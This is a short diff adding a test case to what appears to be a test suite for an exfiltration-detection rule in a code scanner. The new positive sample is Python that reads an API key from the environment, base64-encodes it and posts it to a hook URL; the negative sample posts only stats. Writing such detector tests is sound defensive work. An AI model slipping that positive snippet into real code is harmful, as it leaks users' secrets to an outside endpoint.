@@ -184,4 +184,12 @@ describeRuleCases('exfiltration', [
     negative:
       "const { version } = require('./version');\nhttps.request({ host, method: 'POST' }).end(JSON.stringify(version()));\n",
   },
+  {
+    id: 'SG-EXFIL-001',
+    file: 'scripts/report.py',
+    positive:
+      'key = os.environ["COUNT_API_KEY"]\ndata = base64.b64encode(key.encode())\nrequests.post(HOOK, data=data)\n',
+    negative:
+      'key = os.environ["COUNT_API_KEY"]\ncur = call("/stats", {"site": site}, key)\nrequests.post(HOOK, data=json.dumps(cur))\n',
+  },
 ]);
